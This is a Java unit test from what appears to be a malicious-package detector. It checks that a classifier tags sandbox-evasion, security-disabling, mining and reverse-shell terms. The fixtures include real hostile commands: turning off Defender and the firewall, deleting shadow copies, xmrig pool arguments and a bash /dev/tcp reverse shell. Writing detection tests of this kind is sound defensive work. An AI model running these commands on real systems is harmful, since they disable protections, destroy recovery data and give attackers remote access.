package io.pypiguard.behavior.internal.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class TermsTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "VMToolsd.exe | virtual-machine",
        "08:00:27:ab:cd:ef | virtual-address",
        "Wireshark | analysis-tool",
        "x64dbg.exe | debugger",
        "WDAGUtilityAccount | sandbox",
        "taskkill /f /im MsMpEng.exe | security-product",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true | security-off",
        "netsh advfirewall set allprofiles state off | security-off",
        "vssadmin delete shadows /all | recovery-off",
        "./xmrig-6.21 -o pool | mining",
        "stratum+tcp://{}:3333 | mining",
        "--donate-level=1 | mining",
        "bash -i >& /dev/tcp/{}/4444 | reverse-shell",
        "wmic csproduct get uuid | machine-identity"
      })
  void aWordGivesASubjectAway(String text, String kind) {
    assertThat(Terms.in(text)).extracting(Term::kind).contains(kind);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "virtual",
        "xvmtoolsdx",
        "108:00:27",
        "mining data",
        "unicehashes",
        "abash -ix"
      })
  void partsOfOtherWordsDoNot(String text) {
    assertThat(Terms.in(text)).isEmpty();
  }
}
